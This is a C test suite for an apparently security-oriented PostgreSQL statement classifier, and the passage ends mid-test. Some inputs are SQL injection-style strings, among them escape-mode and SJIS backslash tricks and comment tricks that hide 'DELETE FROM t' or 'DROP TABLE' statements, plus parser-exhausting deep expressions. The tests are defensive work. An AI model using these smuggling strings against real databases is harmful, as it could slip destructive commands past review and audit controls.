	format_set(got, sizeof(got), st->tables, st->n_tables);
	cr_expect(same_set(st->tables, st->n_tables, c->tables), "tables of: %s\n  got [%s] want [%s]",
		  c->sql, got, c->tables ? c->tables : "");
	format_set(got, sizeof(got), st->functions, st->n_functions);
	cr_expect(same_set(st->functions, st->n_functions, c->functions),
		  "functions of: %s\n  got [%s] want [%s]", c->sql, got, c->functions ? c->functions : "");
	cr_expect_eq(st->copy_program, !!(c->flags & F_PROGRAM), "copy_program of: %s", c->sql);
	cr_expect_eq(st->copy_from, !!(c->flags & F_FROM), "copy_from of: %s", c->sql);
	cr_expect_eq(st->copy_server_file, !!(c->flags & F_FILE), "copy_server_file of: %s", c->sql);
	cr_expect_eq(st->executes_body, !!(c->flags & F_EXEC_BODY), "executes_body of: %s", c->sql);
	cr_expect_eq(st->opaque_body, !!(c->flags & F_OPAQUE), "opaque_body of: %s", c->sql);
	cr_expect_eq(st->param_count, c->params, "param_count of: %s", c->sql);
	cr_expect(same_str(st->prepare_name, c->prepare), "prepare_name of: %s: %s", c->sql,
		  st->prepare_name ? st->prepare_name : "(none)");
	cr_expect(same_str(st->execute_name, c->execute), "execute_name of: %s: %s", c->sql,
		  st->execute_name ? st->execute_name : "(none)");
	cr_expect(same_str(st->variable, c->variable), "variable of: %s: %s", c->sql,
		  st->variable ? st->variable : "(none)");
	cr_expect_eq(st->kind, st->ops[0].kind, "kind is the first op's: %s", c->sql);
	sql_parse_free(&p);
}

/* ---- kinds and groups ---------------------------------------------------------- */

Test(sql_kinds, every_kind_has_a_name_that_parses_back)
{
	for (int k = 0; k < SQL_KIND_COUNT; k++) {
		enum sql_kind back;
		const char *name = sql_kind_name((enum sql_kind)k);

		cr_assert_neq(strcmp(name, "?"), 0, "kind %d has no name", k);
		cr_assert_eq(sql_kind_parse(name, &back), 0, "%s", name);
		cr_assert_eq((int)back, k, "%s", name);
	}
	cr_assert_str_eq(sql_kind_name(SQL_KIND_COUNT), "?");
}

Test(sql_kinds, parse_ignores_case_and_refuses_unknown_words)
{
	enum sql_kind k;

	cr_assert_eq(sql_kind_parse("DELETE", &k), 0);
	cr_assert_eq(k, SQL_DELETE);
	cr_assert_eq(sql_kind_parse("Security_Label", &k), 0);
	cr_assert_eq(k, SQL_SECURITY_LABEL);
	cr_assert_eq(sql_kind_parse("delet", &k), -EINVAL);
	cr_assert_eq(sql_kind_parse("ddl", &k), -EINVAL, "a group is no kind");
	cr_assert_eq(sql_kind_parse("", &k), -EINVAL);
}

Test(sql_kinds, groups_follow_postgresql_log_statement)
{
	uint64_t ddl = sql_group_mask("ddl"), dcl = sql_group_mask("dcl"), write = sql_group_mask("write");

	cr_assert_eq(dcl, SQL_KIND_BIT(SQL_GRANT) | SQL_KIND_BIT(SQL_REVOKE));
	cr_assert_eq(ddl & dcl, dcl, "grant and revoke are ddl, as log_statement = ddl has them");
	cr_assert(ddl & SQL_KIND_BIT(SQL_CREATE));
	cr_assert(ddl & SQL_KIND_BIT(SQL_ALTER));
	cr_assert(ddl & SQL_KIND_BIT(SQL_DROP));
	cr_assert(ddl & SQL_KIND_BIT(SQL_COMMENT));
	cr_assert(!(ddl & SQL_KIND_BIT(SQL_TRUNCATE)), "truncate is data (log_statement = mod)");
	cr_assert_eq(write & ddl, ddl, "write covers ddl");
	cr_assert(write & SQL_KIND_BIT(SQL_TRUNCATE));
	cr_assert(write & SQL_KIND_BIT(SQL_INSERT));
	cr_assert(write & SQL_KIND_BIT(SQL_MERGE));
	cr_assert(write & SQL_KIND_BIT(SQL_DO), "DO can do anything");
	cr_assert(write & SQL_KIND_BIT(SQL_CALL));
	cr_assert(!(write & SQL_KIND_BIT(SQL_SELECT)));
	cr_assert(!(write & SQL_KIND_BIT(SQL_COPY)), "COPY FROM counts through its insert op");
	cr_assert(!(write & SQL_KIND_BIT(SQL_SET)));
	cr_assert_eq(sql_group_mask("DDL"), ddl);
	cr_assert_eq(sql_group_mask("select"), 0, "a kind is no group");
	cr_assert_eq(sql_group_mask("dml"), 0);
}

Test(sql_kinds, kinds_parse_takes_kinds_and_groups)
{
	uint64_t mask;

	cr_assert_eq(sql_kinds_parse("truncate", &mask), 0);
	cr_assert_eq(mask, SQL_KIND_BIT(SQL_TRUNCATE));
	cr_assert_eq(sql_kinds_parse("Write", &mask), 0);
	cr_assert_eq(mask, sql_group_mask("write"));
	cr_assert_eq(sql_kinds_parse("dropp", &mask), -EINVAL);
}

Test(sql_kinds, copy_from_is_a_write_and_copy_to_is_not)
{
	struct sql_parse p;
	uint64_t write = sql_group_mask("write");

	cr_assert(sql_statement_kinds(only_statement("COPY t FROM STDIN", &p), true) & write);
	sql_parse_free(&p);
	cr_assert(!(sql_statement_kinds(only_statement("COPY t TO STDOUT", &p), true) & write));
	sql_parse_free(&p);
}

Test(sql_kinds, statement_kinds_can_leave_out_what_does_not_run_now)
{
	struct sql_parse p;
	struct sql_statement *st = only_statement("EXPLAIN DELETE FROM t", &p);

	cr_assert_eq(sql_statement_kinds(st, true), SQL_KIND_BIT(SQL_EXPLAIN));
	cr_assert_eq(sql_statement_kinds(st, false), SQL_KIND_BIT(SQL_EXPLAIN) | SQL_KIND_BIT(SQL_DELETE));
	sql_parse_free(&p);

	st = only_statement("EXPLAIN ANALYZE DELETE FROM t", &p);
	cr_assert_eq(sql_statement_kinds(st, true), SQL_KIND_BIT(SQL_EXPLAIN) | SQL_KIND_BIT(SQL_DELETE));
	sql_parse_free(&p);
}

/* ---- several statements ---------------------------------------------------------- */

Test(sql_multi, each_statement_is_classified_with_its_place_in_the_text)
{
	const char *sql = "SELECT 1; DROP TABLE t";
	struct sql_parse p;

	parse_ok(sql, &p);
	cr_assert_eq(p.n_stmts, 2);
	cr_assert_eq(p.stmts[0].kind, SQL_SELECT);
	cr_assert_eq(p.stmts[0].location, 0);
	cr_assert_eq(p.stmts[0].length, 8);
	cr_assert_eq(p.stmts[1].kind, SQL_DROP);
	cr_assert_eq(p.stmts[1].location, 9);
	cr_assert_eq(p.stmts[1].length, 13);
	cr_assert_arr_eq(sql + p.stmts[1].location, " DROP TABLE t", 13);
	cr_assert_str_eq(p.stmts[1].ops[0].relation, "t");
	sql_parse_free(&p);
}

Test(sql_multi, a_delete_hidden_after_comments_and_empty_statements_is_seen)
{
	const char *sql = "SELECT 1;;\n-- harmless; really\n/* ; */ ; delete from ORDERS;";
	struct sql_parse p;

	parse_ok(sql, &p);
	cr_assert_eq(p.n_stmts, 2);
	cr_assert_eq(p.stmts[1].kind, SQL_DELETE);
	cr_assert_str_eq(p.stmts[1].ops[0].relation, "orders");
	cr_assert_eq(p.stmts[1].ops[0].where_present, false);
	sql_parse_free(&p);
}

Test(sql_multi, semicolons_in_strings_and_dollar_quotes_do_not_split)
{
	const char *sql = "SELECT ';DROP TABLE a;', $$;DROP TABLE b;$$, $x$;$y$;$x$; SELECT 2";
	struct sql_parse p;

	parse_ok(sql, &p);
	cr_assert_eq(p.n_stmts, 2);
	cr_assert_eq(p.stmts[0].kind, SQL_SELECT);
	cr_assert_eq(p.stmts[0].n_tables, 0);
	cr_assert_eq(p.stmts[1].kind, SQL_SELECT);
	sql_parse_free(&p);
}

Test(sql_multi, a_syntax_error_anywhere_makes_the_whole_text_unparsable)
{
	struct sql_parse p;
	const char *sql = "DELETE FROM t; SELEKT 1";

	cr_assert_eq(sql_parse(sql, strlen(sql), NULL, &p), 0);
	cr_assert_not(p.ok, "the server parses the whole text first and runs none of it either");
	cr_assert_eq(p.n_stmts, 0);
	sql_parse_free(&p);
}

Test(sql_multi, the_last_statement_runs_to_the_end_of_the_text)
{
	const char *sql = "SELECT 1;  UPDATE t SET a = 1  ";
	struct sql_parse p;

	parse_ok(sql, &p);
	cr_assert_eq(p.n_stmts, 2);
	cr_assert_eq(p.stmts[1].location + p.stmts[1].length, (int)strlen(sql));
	sql_parse_free(&p);
}

/* ---- text that cannot be classified ------------------------------------------------ */

Test(sql_errors, unparsable_text_reports_the_error_and_its_position)
{
	struct sql_parse p;

	cr_assert_eq(sql_parse("SELEKT 1", 8, NULL, &p), 0);
	cr_assert_not(p.ok);
	cr_assert_eq(p.failure, SQL_FAIL_SYNTAX);
	cr_assert_not_null(strstr(p.error, "syntax error"), "%s", p.error);
	cr_assert_eq(p.error_position, 1);
	cr_assert_str_eq(p.fingerprint, "");
	cr_assert_eq(p.n_stmts, 0);
	sql_parse_free(&p);

	cr_assert_eq(sql_parse("SELECT * FROM t WHERE", 21, NULL, &p), 0);
	cr_assert_eq(p.failure, SQL_FAIL_SYNTAX);
	cr_assert_eq(p.error_position, 22, "at the end: %d", p.error_position);
	sql_parse_free(&p);
}

Test(sql_errors, the_position_counts_characters_as_postgresql_does)
{
	struct sql_parse p;
	/* FRM is taken as an alias; the error is at "t": character 18, byte 21. */
	const char *sql = "SELECT 'ééé' FRM t";

	cr_assert_eq(sql_parse(sql, strlen(sql), NULL, &p), 0);
	cr_assert_eq(p.failure, SQL_FAIL_SYNTAX);
	cr_assert_eq(p.error_position, 18, "position %d", p.error_position);
	sql_parse_free(&p);
}

Test(sql_errors, unterminated_strings_and_comments_are_unparsable)
{
	const char *texts[] = { "SELECT 'abc", "SELECT 1 /* open", "SELECT $$abc", "SELECT \"abc" };

	for (size_t i = 0; i < sizeof(texts) / sizeof(texts[0]); i++) {
		struct sql_parse p;

		cr_assert_eq(sql_parse(texts[i], strlen(texts[i]), NULL, &p), 0);
		cr_assert_eq(p.failure, SQL_FAIL_SYNTAX, "%s", texts[i]);
		sql_parse_free(&p);
	}
}

Test(sql_errors, empty_text_and_only_comments_have_no_statements)
{
	const char *texts[] = { "", "   \n\t", "-- just a comment", "/* only */", ";", ";;  ; ",
				"-- a\n/* b */ ;" };

	for (size_t i = 0; i < sizeof(texts) / sizeof(texts[0]); i++) {
		struct sql_parse p;

		parse_ok(texts[i], &p);
		cr_assert_eq(p.n_stmts, 0, "%s", texts[i]);
		cr_assert_null(p.stmts);
		sql_parse_free(&p);
	}
}

Test(sql_errors, text_need_not_be_nul_terminated)
{
	char buf[64];
	struct sql_parse p;

	memset(buf, 'x', sizeof(buf));
	memcpy(buf, "DELETE FROM t", 13);	/* followed by 'x's, no NUL */
	cr_assert_eq(sql_parse(buf, 13, NULL, &p), 0);
	cr_assert(p.ok);
	cr_assert_eq(p.n_stmts, 1);
	cr_assert_str_eq(p.stmts[0].ops[0].relation, "t");
	cr_assert_eq(p.stmts[0].length, 13);
	sql_parse_free(&p);
}

Test(sql_errors, a_nul_byte_inside_the_text_is_refused_not_truncated)
{
	const char sql[] = "SELECT 1\0; DELETE FROM t";
	struct sql_parse p;

	cr_assert_eq(sql_parse(sql, sizeof(sql) - 1, NULL, &p), 0);
	cr_assert_not(p.ok);
	cr_assert_eq(p.failure, SQL_FAIL_NUL_BYTE);
	cr_assert_eq(p.n_stmts, 0);
	sql_parse_free(&p);
}

Test(sql_errors, free_is_safe_on_a_failed_and_on_a_freed_parse)
{
	struct sql_parse p;

	cr_assert_eq(sql_parse("SELEKT", 6, NULL, &p), 0);
	sql_parse_free(&p);
	sql_parse_free(&p);
}

/* ---- fingerprints -------------------------------------------------------------------- */

Test(sql_fingerprint, equal_for_the_same_statement_with_other_constants_and_case)
{
	struct sql_parse a, b, c;

	parse_ok("SELECT * FROM t WHERE a = 1", &a);
	parse_ok("select * from t where a = 2", &b);
	parse_ok("SELECT * FROM u WHERE a = 1", &c);
	cr_assert_eq(strlen(a.fingerprint), 16);
	cr_assert_eq(strspn(a.fingerprint, "0123456789abcdef"), 16, "%s", a.fingerprint);
	cr_assert_str_eq(a.fingerprint, b.fingerprint);
	cr_assert_str_neq(a.fingerprint, c.fingerprint);
	sql_parse_free(&a);
	sql_parse_free(&b);
	sql_parse_free(&c);
}

Test(sql_fingerprint, comments_and_whitespace_do_not_change_it)
{
	struct sql_parse a, b;

	parse_ok("DELETE FROM t WHERE id = $1", &a);
	parse_ok("/* x */ DELETE\n  FROM t -- y\n WHERE id = 42", &b);
	cr_assert_str_eq(a.fingerprint, b.fingerprint);
	sql_parse_free(&a);
	sql_parse_free(&b);
}

/* ---- depth, length and cost -------------------------------------------------------- */

static char *repeat(const char *head, const char *unit, size_t n, const char *tail)
{
	size_t hl = strlen(head), ul = strlen(unit), tl = strlen(tail);
	char *s = malloc(hl + ul * n + tl + 1), *p = s;

	cr_assert_not_null(s);
	memcpy(p, head, hl);
	p += hl;
	for (size_t i = 0; i < n; i++, p += ul)
		memcpy(p, unit, ul);
	memcpy(p, tail, tl + 1);
	return s;
}

/* "(((…1…)))" with @n pairs. */
static char *nested(const char *head, const char *open, size_t n, const char *mid, const char *close)
{
	char *a = repeat(head, open, n, mid);
	char *b = repeat(a, close, n, "");

	free(a);
	return b;
}

static enum sql_failure failure_of(const char *sql)
{
	struct sql_parse p;
	enum sql_failure f;

	cr_assert_eq(sql_parse(sql, strlen(sql), NULL, &p), 0);
	f = p.failure;
	cr_assert_eq(p.ok, f == SQL_FAIL_NONE);
	sql_parse_free(&p);
	return f;
}

Test(sql_depth, ten_thousand_nested_parentheses_do_not_crash)
{
	char *sql = nested("SELECT ", "(", 10000, "1", ")");

	cr_assert_eq(failure_of(sql), SQL_FAIL_SYNTAX, "the grammar's own stack limit");
	free(sql);
}

Test(sql_depth, a_million_parentheses_are_refused_before_parsing)
{
	char *sql = nested("SELECT ", "(", 1000000, "1", ")");

	cr_assert_eq(failure_of(sql), SQL_FAIL_TOO_COMPLEX);
	free(sql);
}

Test(sql_depth, long_operator_chains_the_server_accepts_are_classified)
{
	char *sql = repeat("DELETE FROM t WHERE id = 0", " + 1", 4000, "");
	struct sql_parse p;

	parse_ok(sql, &p);
	cr_assert_eq(p.stmts[0].kind, SQL_DELETE);
	cr_assert_eq(p.stmts[0].ops[0].where_present, true);
	sql_parse_free(&p);
	free(sql);
}

Test(sql_depth, deeper_chains_are_refused_not_crashed_on)
{
	size_t lengths[] = { 10000, 100000, 1000000 };

	for (size_t i = 0; i < sizeof(lengths) / sizeof(lengths[0]); i++) {
		char *sql = repeat("SELECT 1", "+1", lengths[i], "");

		cr_assert_eq(failure_of(sql), SQL_FAIL_TOO_COMPLEX, "%zu terms", lengths[i]);
		free(sql);
	}
}

Test(sql_depth, a_delete_behind_a_too_deep_statement_is_never_reported_alone)
{
	char *sql = repeat("SELECT 1", "+1", 20000, "; DELETE FROM t");

	cr_assert_eq(failure_of(sql), SQL_FAIL_TOO_COMPLEX);
	free(sql);
}

Test(sql_depth, nested_subqueries_and_long_unions_are_classified)
{
	char *sub = nested("SELECT ", "(SELECT ", 2000, "x FROM secrets", ")");
	char *uni = repeat("SELECT 1", " UNION ALL SELECT a FROM t", 7000, "");
	struct sql_parse p;

	parse_ok(sub, &p);
	cr_assert_eq(p.stmts[0].kind, SQL_SELECT);
	cr_assert(same_set(p.stmts[0].tables, p.stmts[0].n_tables, "secrets"));
	sql_parse_free(&p);
	parse_ok(uni, &p);
	cr_assert(same_set(p.stmts[0].tables, p.stmts[0].n_tables, "t"));
	sql_parse_free(&p);
	free(sub);
	free(uni);
}

Test(sql_depth, deep_data_modifying_ctes_are_all_found)
{
	/* WITH a1 AS (WITH a2 AS (... DELETE ...) SELECT 1) SELECT 1 */
	char *head = repeat("", "WITH a AS (", 300, "DELETE FROM deep RETURNING 1");
	char *sql = repeat(head, ") SELECT 1", 300, "");
	struct sql_parse p;

	parse_ok(sql, &p);
	cr_assert_eq(p.stmts[0].kind, SQL_SELECT);
	cr_assert_eq(p.stmts[0].n_ops, 2);
	cr_assert_eq(p.stmts[0].ops[1].kind, SQL_DELETE);
	cr_assert_str_eq(p.stmts[0].ops[1].relation, "deep");
	sql_parse_free(&p);
	free(head);
	free(sql);
}

Test(sql_depth, a_long_run_of_signs_is_refused_quickly)
{
	/* "-+-+...x": PostgreSQL's scanner is quadratic in such a run. */
	char *sql = repeat("SELECT ", "-+", 50000, "x");
	struct timespec t0, t1;
	double seconds;

	clock_gettime(CLOCK_MONOTONIC, &t0);
	cr_assert_eq(failure_of(sql), SQL_FAIL_TOO_COMPLEX);
	clock_gettime(CLOCK_MONOTONIC, &t1);
	seconds = (double)(t1.tv_sec - t0.tv_sec) + (double)(t1.tv_nsec - t0.tv_nsec) / 1e9;
	cr_assert_lt(seconds, 1.0, "took %.2fs", seconds);
	free(sql);
}

Test(sql_depth, a_short_run_of_signs_and_comment_dashes_are_fine)
{
	char *signs = repeat("SELECT 1 ", "-+", 200, "1");
	char *dashes = repeat("SELECT 1 ", "-", 100000, "\n");
	struct sql_parse p;

	parse_ok(signs, &p);
	sql_parse_free(&p);
	parse_ok(dashes, &p);	/* one long "-- ----..." comment */
	cr_assert_eq(p.n_stmts, 1);
	sql_parse_free(&p);
	free(signs);
	free(dashes);
}

Test(sql_depth, a_megabyte_bulk_insert_is_classified)
{
	char *sql = repeat("INSERT INTO big (a, b) VALUES (0, 'x')", ", (1, 'some text; DROP TABLE x')",
			   35000, " RETURNING id");
	struct sql_parse p;

	cr_assert_gt(strlen(sql), (size_t)1 << 20);
	parse_ok(sql, &p);
	cr_assert_eq(p.n_stmts, 1);
	cr_assert_eq(p.stmts[0].kind, SQL_INSERT);
	cr_assert(same_set(p.stmts[0].tables, p.stmts[0].n_tables, "big"));
	sql_parse_free(&p);
	free(sql);
}

Test(sql_depth, thousands_of_distinct_tables_are_all_listed)
{
	size_t n = 5000, at;
	char *sql = malloc(n * 16 + 32);
	struct sql_parse p;

	at = (size_t)sprintf(sql, "SELECT 1 FROM t0");
	for (size_t i = 1; i < n; i++)
		at += (size_t)sprintf(sql + at, ", t%zu", i);
	parse_ok(sql, &p);
	cr_assert_eq(p.stmts[0].n_tables, n);
	cr_assert_str_eq(p.stmts[0].tables[4999], "t4999");
	sql_parse_free(&p);
	free(sql);
}

Test(sql_depth, identifiers_are_truncated_as_the_server_truncates_them)
{
	char *sql = repeat("SELECT * FROM ", "a", 70, "");
	char *want = repeat("", "a", 63, "");
	struct sql_parse p;

	parse_ok(sql, &p);
	cr_assert_str_eq(p.stmts[0].tables[0], want);
	sql_parse_free(&p);
	free(sql);
	free(want);
}

struct small_stack_job {
	const char *sql;
	struct sql_parse p;
	int rc;
};

static void *parse_in_thread(void *arg)
{
	struct small_stack_job *j = arg;

	j->rc = sql_parse(j->sql, strlen(j->sql), NULL, &j->p);
	return NULL;
}

Test(sql_depth, deep_statements_parse_from_a_thread_with_a_small_stack)
{
	/* Short enough to be parsed on the caller's stack, deep enough that
	 * unpacking it there would not fit: the helper thread takes it. */
	char *sql = repeat("SELECT 1", "+1", 1000, "");
	struct small_stack_job j = { .sql = sql };
	pthread_attr_t attr;
	pthread_t t;

	pthread_attr_init(&attr);
	pthread_attr_setstacksize(&attr, (size_t)1 << 20);
	cr_assert_eq(pthread_create(&t, &attr, parse_in_thread, &j), 0);
	pthread_join(t, NULL);
	pthread_attr_destroy(&attr);
	cr_assert_eq(j.rc, 0);
	cr_assert(j.p.ok);
	cr_assert_eq(j.p.stmts[0].kind, SQL_SELECT);
	sql_parse_free(&j.p);
	free(sql);
}

/* ---- how the session reads text -------------------------------------------------------- */

/* With standard_conforming_strings off, 'a\' does not end the string. */
static const char scs_trick[] = "SELECT 'a\\'; SELECT '; DELETE FROM t; --'";

Test(sql_session, standard_conforming_strings_on_reads_two_selects)
{
	struct sql_parse p;
	struct sql_settings on = { .standard_conforming_strings = SQL_SCS_ON };

	cr_assert_eq(sql_parse(scs_trick, strlen(scs_trick), &on, &p), 0);
	cr_assert(p.ok);
	cr_assert_eq(p.n_stmts, 2);
	cr_assert_eq(p.stmts[0].kind, SQL_SELECT);
	cr_assert_eq(p.stmts[1].kind, SQL_SELECT);
	sql_parse_free(&p);
}

Test(sql_session, standard_conforming_strings_off_sees_the_hidden_delete)
{
	struct sql_parse p;
	struct sql_settings off = { .standard_conforming_strings = SQL_SCS_OFF };

	cr_assert_eq(sql_parse(scs_trick, strlen(scs_trick), &off, &p), 0);
	cr_assert(p.ok);
	cr_assert_eq(p.n_stmts, 2);
	cr_assert_eq(p.stmts[1].kind, SQL_DELETE);
	cr_assert_str_eq(p.stmts[1].ops[0].relation, "t");
	sql_parse_free(&p);
}

Test(sql_session, unknown_setting_refuses_text_that_reads_two_ways)
{
	struct sql_parse p;
	struct sql_settings unknown = { .standard_conforming_strings = SQL_SCS_UNKNOWN };

	cr_assert_eq(sql_parse(scs_trick, strlen(scs_trick), &unknown, &p), 0);
	cr_assert_not(p.ok);
	cr_assert_eq(p.failure, SQL_FAIL_AMBIGUOUS);
	cr_assert_eq(p.n_stmts, 0);
	sql_parse_free(&p);
}

Test(sql_session, unknown_setting_accepts_backslashes_that_change_nothing)
{
	const char *texts[] = { "SELECT 'C:\\path' FROM t", "SELECT E'a\\'b' FROM t",
				"DELETE FROM t WHERE note = 'x\\y'" };
	struct sql_settings unknown = { .standard_conforming_strings = SQL_SCS_UNKNOWN };

	for (size_t i = 0; i < sizeof(texts) / sizeof(texts[0]); i++) {
		struct sql_parse p;

		cr_assert_eq(sql_parse(texts[i], strlen(texts[i]), &unknown, &p), 0);
		cr_assert(p.ok, "%s: %s", texts[i], p.error ? p.error : "");
		cr_assert_eq(p.n_stmts, 1);
		sql_parse_free(&p);
	}
}

Test(sql_session, the_setting_does_not_leak_into_the_next_parse)
{
	struct sql_parse p;
	struct sql_settings off = { .standard_conforming_strings = SQL_SCS_OFF };

	cr_assert_eq(sql_parse(scs_trick, strlen(scs_trick), &off, &p), 0);
	sql_parse_free(&p);
	cr_assert_eq(sql_parse(scs_trick, strlen(scs_trick), NULL, &p), 0);
	cr_assert_eq(p.stmts[1].kind, SQL_SELECT, "NULL settings mean standard_conforming_strings on");
	sql_parse_free(&p);
}

Test(sql_session, client_only_encodings_with_non_ascii_text_are_refused)
{
	/* SJIS 0x95 0x5c is one character whose second byte is a backslash. */
	const char sql[] = "SELECT E'\x95\\'; DELETE FROM t; --'";
	struct sql_settings sjis = { .client_encoding = "SJIS" };
	struct sql_parse p;

	cr_assert_eq(sql_parse(sql, sizeof(sql) - 1, &sjis, &p), 0);
	cr_assert_not(p.ok);
	cr_assert_eq(p.failure, SQL_FAIL_ENCODING);
	sql_parse_free(&p);

	cr_assert_eq(sql_parse("DELETE FROM t", 13, &sjis, &p), 0);
	cr_assert(p.ok, "plain ASCII reads the same in every encoding");
	sql_parse_free(&p);
}

Test(sql_session, encodings_are_judged_by_postgresql_names)
{
	cr_assert(sql_encoding_is_ascii_safe(NULL));
	cr_assert(sql_encoding_is_ascii_safe("UTF8"));
	cr_assert(sql_encoding_is_ascii_safe("utf-8"));
	cr_assert(sql_encoding_is_ascii_safe("LATIN1"));
	cr_assert(sql_encoding_is_ascii_safe("EUC_JP"));
	cr_assert(sql_encoding_is_ascii_safe("SQL_ASCII"));
	cr_assert(sql_encoding_is_ascii_safe("WIN1252"));
	cr_assert_not(sql_encoding_is_ascii_safe("SJIS"));
	cr_assert_not(sql_encoding_is_ascii_safe("BIG5"));
	cr_assert_not(sql_encoding_is_ascii_safe("GBK"));
	cr_assert_not(sql_encoding_is_ascii_safe("UHC"));
	cr_assert_not(sql_encoding_is_ascii_safe("GB18030"));
	cr_assert_not(sql_encoding_is_ascii_safe("JOHAB"));
	cr_assert_not(sql_encoding_is_ascii_safe("SHIFT_JIS_2004"));
	cr_assert_not(sql_encoding_is_ascii_safe("no-such-encoding"), "unknown counts as unsafe");
	cr_assert_not(sql_encoding_is_ascii_safe("utf8utf8utf8utf8utf8utf8utf8utf8utf8"));
}

Test(sql_session, utf8_text_is_classified)
{
	struct sql_parse p;
	struct sql_settings utf8 = { .client_encoding = "UTF8" };
	const char *sql = "DELETE FROM \"Bestellungen_ä\" WHERE note = '日本'";

	cr_assert_eq(sql_parse(sql, strlen(sql), &utf8, &p), 0);
	cr_assert(p.ok);
	cr_assert_str_eq(p.stmts[0].ops[0].relation, "Bestellungen_ä");
	sql_parse_free(&p);
}

/* ---- threads ------------------------------------------------------------------------- */

struct worker {
	int id;
	int mismatches;
};

static void *classify_many(void *arg)
{
	struct worker *w = arg;
	struct sql_settings off = { .standard_conforming_strings = SQL_SCS_OFF };

	for (int i = 0; i < 300; i++) {
		char sql[128];
		struct sql_parse p;
		bool scs_off = (i + w->id) % 2;

		snprintf(sql, sizeof(sql), "DELETE FROM t%d WHERE id = %d", w->id, i);
		if (sql_parse(sql, strlen(sql), NULL, &p) != 0 || !p.ok || p.n_stmts != 1 ||
		    p.stmts[0].kind != SQL_DELETE)
			w->mismatches++;
		sql_parse_free(&p);
		/* Each thread's setting is its own. */
		if (sql_parse(scs_trick, strlen(scs_trick), scs_off ? &off : NULL, &p) != 0 || !p.ok ||
		    p.stmts[1].kind != (scs_off ? SQL_DELETE : SQL_SELECT))
			w->mismatches++;
		sql_parse_free(&p);
	}
	return NULL;
}

Test(sql_threads, parallel_classification_with_different_settings_agrees)
{
	pthread_t threads[4];
	struct worker workers[4];

	for (int i = 0; i < 4; i++) {
		workers[i] = (struct worker){ .id = i };
		cr_assert_eq(pthread_create(&threads[i], NULL, classify_many, &workers[i]), 0);
	}
	for (int i = 0; i < 4; i++) {
		pthread_join(threads[i], NULL);
		cr_assert_eq(workers[i].mismatches, 0, "thread %d", i);
	}
}

Test(sql_fingerprint, each_statement_of_a_string_has_its_own)
{
	static const char text[] = "select * from t where a = 1; delete from u where b = 2";
	static const char alone[] = "select * from t where a = 99";
	struct sql_parse multi, one;

	cr_assert_eq(sql_parse(text, sizeof(text) - 1, NULL, &multi), 0);
	cr_assert_eq(sql_parse(alone, sizeof(alone) - 1, NULL, &one), 0);
	cr_assert(multi.ok && one.ok);
	cr_assert_eq(multi.n_stmts, 2);
	cr_assert_str_eq(multi.stmts[0].fingerprint, one.stmts[0].fingerprint,
			 "a statement fingerprints alike alone or in company");
	cr_assert_str_neq(multi.stmts[0].fingerprint, multi.stmts[1].fingerprint);
	cr_assert_str_eq(one.stmts[0].fingerprint, one.fingerprint);
	sql_parse_free(&multi);
	sql_parse_free(&one);
}

/* ---- the cache ------------------------------------------------------------------------ */

static bool same_op(const struct sql_op *a, const struct sql_op *b)
{
	return a->kind == b->kind && a->executed == b->executed &&
	       a->where_present == b->where_present && a->where_constant == b->where_constant &&
	       same_str(a->relation, b->relation);
}

static bool same_names(char *const *a, size_t na, char *const *b, size_t nb)
{
	if (na != nb)
		return false;
	for (size_t i = 0; i < na; i++)
		if (!same_str(a[i], b[i]))
			return false;
	return true;
}

/* Every field, in order: what the policy and the audit trail could see. */
static bool same_parse(const struct sql_parse *a, const struct sql_parse *b)
{
	if (a->ok != b->ok || a->failure != b->failure || !same_str(a->error, b->error) ||
	    a->error_position != b->error_position || strcmp(a->fingerprint, b->fingerprint) != 0 ||
	    a->n_stmts != b->n_stmts)
		return false;
	for (size_t i = 0; i < a->n_stmts; i++) {
		const struct sql_statement *x = &a->stmts[i], *y = &b->stmts[i];

		if (x->kind != y->kind || x->n_ops != y->n_ops ||
		    !same_names(x->tables, x->n_tables, y->tables, y->n_tables) ||
		    !same_names(x->functions, x->n_functions, y->functions, y->n_functions) ||
		    x->copy_program != y->copy_program || x->copy_from != y->copy_from ||
		    x->copy_server_file != y->copy_server_file || x->executes_body != y->executes_body ||
		    !same_str(x->prepare_name, y->prepare_name) ||
		    !same_str(x->execute_name, y->execute_name) || x->opaque_body != y->opaque_body ||
		    !same_str(x->variable, y->variable) || x->param_count != y->param_count ||
		    x->location != y->location || x->length != y->length ||
		    strcmp(x->fingerprint, y->fingerprint) != 0)
			return false;
		for (size_t k = 0; k < x->n_ops; k++)
			if (!same_op(&x->ops[k], &y->ops[k]))
				return false;
	}
	return true;
}

/* Beyond the table: failures of every kind, several statements, nothing. */
static const char *const more_texts[] = {
	"SELECT 1; DROP TABLE t",
	"SELECT 1;;\n-- harmless; really\n/* ; */ ; delete from ORDERS;",
	"SELECT ';DROP TABLE a;', $$;DROP TABLE b;$$, $x$;$y$;$x$; SELECT 2",
	"select * from t where a = 1; delete from u where b = 2",
	"DELETE FROM t; SELEKT 1",
	"SELECT 1;  UPDATE t SET a = 1  ",
	"SELEKT 1",
	"SELECT * FROM t WHERE",
	"SELECT 'ééé' FRM t",
	"SELECT 'abc", "SELECT 1 /* open", "SELECT $$abc", "SELECT \"abc",
	"", "   \n\t", "-- just a comment", "/* only */", ";", ";;  ; ",
	"SELECT 'a\\'; SELECT '; DELETE FROM t; --'",
	"SELECT E'a\\'b' FROM t",
	"DELETE FROM \"Bestellungen_ä\" WHERE note = '日本'",
	"SELECT 1 +-+-+-+-+-+- 2",
};

static const struct sql_settings corpus_settings[] = {
	{ .standard_conforming_strings = SQL_SCS_ON },
	{ .standard_conforming_strings = SQL_SCS_OFF },
	{ .standard_conforming_strings = SQL_SCS_UNKNOWN },
	{ .client_encoding = "SJIS" },
};

/* Fresh, first through the cache (a miss) and again (a hit): all equal. */
static void check_cached_like_fresh(struct sql_cache *c, const char *sql, size_t len,
				    const struct sql_settings *set)
{
	struct sql_parse fresh, miss, hit;
	int rc = sql_parse(sql, len, set, &fresh);

	cr_assert_eq(sql_cache_parse(c, sql, len, set, &miss), rc, "%s", sql);
	cr_assert_eq(sql_cache_parse(c, sql, len, set, &hit), rc, "%s", sql);
	cr_expect(same_parse(&fresh, &miss), "a miss differs from a fresh parse: %s", sql);
	cr_expect(same_parse(&fresh, &hit), "a hit differs from a fresh parse: %s", sql);
	for (size_t i = 0; i < hit.n_stmts; i++)
		cr_expect_neq(hit.stmts[i].ops, miss.stmts[i].ops, "copies share nothing");
	sql_parse_free(&fresh);
	sql_parse_free(&miss);
	sql_parse_free(&hit);
}

Test(sql_cache, a_hit_gives_exactly_what_a_fresh_parse_gives_for_the_whole_corpus)
{
	struct sql_cache *c = sql_cache_new(NULL);
